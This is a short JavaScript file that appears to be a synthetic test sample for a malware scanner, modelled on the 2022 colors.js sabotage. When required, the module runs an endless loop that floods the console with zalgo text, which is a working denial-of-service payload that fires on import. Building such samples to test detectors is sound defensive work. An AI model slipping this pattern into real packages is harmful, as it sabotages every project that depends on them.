// SYNTHETIC, DEFANGED malwi validation sample - modelled on colors.js / faker.js sabotage (2022); never run.
// Sabotage: an endless loop that floods the console when the library is required.
'use strict';
var zalgo = require('./zalgo');
var am = function () {
  console.log('Testing testing testing testing testing testing testing');
  console.log('LIBERTY LIBERTY LIBERTY');
  var i = 666;
  for (let i = 666; i < Infinity; i++) {
    if (i % 333) {
      console.log(zalgo('It works!'));
    } else {
      console.log(zalgo('It works! ' + i));
    }
  }
  return i;
};
module.exports = am();
